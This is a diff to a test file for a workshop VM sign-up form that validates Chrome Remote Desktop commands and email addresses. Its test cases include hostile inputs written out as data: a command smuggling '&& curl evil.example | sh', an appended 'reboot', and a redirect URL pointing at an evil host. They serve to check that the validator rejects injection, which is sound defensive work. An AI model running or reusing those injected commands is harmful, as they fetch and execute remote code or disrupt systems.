@@ -131,7 +131,7 @@ describe('the participant form over HTTP', () => {
     ['a missing --code', { email: 'a@example.com', crd_command: 'DISPLAY= /opt/google/chrome-remote-desktop/start-host --redirect-url="https://remotedesktop.google.com/_/oauthredirect"' }, /no --code/],
     ['a wrong redirect URL', { email: 'a@example.com', crd_command: crdCommand().replace('remotedesktop.google.com', 'remotedesktop.evil.example') }, /redirect-url must be Google's/],
     ['shell metacharacters', { email: 'a@example.com', crd_command: `${crdCommand()} && curl evil.example | sh` }, /contains "&&"/],
-    ['a newline', { email: 'a@example.com', crd_command: `${crdCommand()}\nreboot` }, /line break/],
+    ['a newline and another command', { email: 'a@example.com', crd_command: `${crdCommand()}\nreboot` }, /contains "reboot"/],
     ['over-long input', { email: 'a@example.com', crd_command: `${crdCommand()}${'x'.repeat(2100)}` }, /longer than 2048/],
     ['a bad email', { email: 'a@example', crd_command: crdCommand() }, /not a valid email/],
     ['a missing email', { crd_command: crdCommand() }, /Enter your email/],
@@ -153,6 +153,21 @@ describe('the participant form over HTTP', () => {
     expect(page).toContain('id="crd_command-error"');
     expect(page).toContain('code alone');
     expect(page).toContain('value="keep@example.com"');
+  });
+
+  it('reports every field’s mistake at once, in JSON and in the page', async () => {
+    const response = await submitForm(env.url, { email: 'sam@gmial.com', crd_command: 'DISPLAY= /opt/google/chrome-remote-desktop/start-host --code="4/0AanRJrjkg' });
+    expect(response.status).toBe(400);
+    expect(await response.json()).toEqual({
+      error: expect.stringMatching(/^Did you mean sam@gmail\.com\?/),
+      field: 'email',
+      errors: { email: expect.stringMatching(/^Did you mean/), crd_command: expect.stringMatching(/^The command stops in the middle of the code/) },
+      emailSuggestion: 'sam@gmail.com',
+    });
+    const page = await (await submitForm(env.url, { email: 'sam@gmial.com', crd_command: '' }, 'text/html')).text();
+    expect(page).toContain('<title>Error: Get your workshop VM · LabLink</title>');
+    expect(page).toMatch(/<div class="error-summary" id="error-summary" tabindex="-1" autofocus[^>]*>\s*<h2[^>]*>There are 2 problems<\/h2>/);
+    expect(page).toContain('<input type="checkbox" id="email_confirmed" name="email_confirmed" value="sam@gmial.com">');
   });
 
   it('escapes what was typed when it shows it back', async () => {
